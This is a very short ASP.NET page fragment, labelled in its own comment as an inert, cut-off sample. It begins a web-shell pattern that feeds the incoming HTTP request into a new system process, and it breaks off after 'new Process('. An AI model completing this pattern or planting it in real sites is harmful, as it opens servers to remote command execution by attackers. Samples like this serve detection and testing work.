<%@ Page Language="C#" %>
<% /* INERT SAMPLE: cut off */ var a = Request; new Process( %>
